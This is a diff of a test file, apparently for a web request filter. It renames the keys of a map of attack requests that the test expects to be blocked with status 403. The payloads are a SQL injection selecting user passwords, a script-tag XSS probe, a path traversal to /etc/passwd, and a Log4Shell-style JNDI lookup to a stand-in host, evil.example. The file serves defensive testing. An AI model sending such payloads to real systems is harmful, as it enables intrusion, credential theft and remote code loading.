@@ -74,10 +74,10 @@ describe('an air-gapped host', () => {
     const page = 'https://localhost/';
     expect(await asked('visitor', `${page}?q=the+third+man`)).toBe('200');
     const attacks = {
-      injection: [`${page}?id=1%20UNION%20SELECT%20password%20FROM%20users`],
-      script: [`${page}?q=%3Cscript%3Ealert(1)%3C/script%3E`],
-      traversal: [`${page}?file=../../../../etc/passwd`],
-      lookup: [page, '-H', 'x-api-version: ${jndi:ldap://evil.example/a}'],
+      'by-injection': [`${page}?id=1%20UNION%20SELECT%20password%20FROM%20users`],
+      'by-script': [`${page}?q=%3Cscript%3Ealert(1)%3C/script%3E`],
+      'by-traversal': [`${page}?file=../../../../etc/passwd`],
+      'by-lookup': [page, '-H', 'x-api-version: ${jndi:ldap://evil.example/a}'],
     };
     for (const [id, args] of Object.entries(attacks)) expect([id, await asked(id, ...args)]).toEqual([id, '403']);
     const { entries } = parsed<{ entries: { requestId: string; blocked: boolean }[] }>(
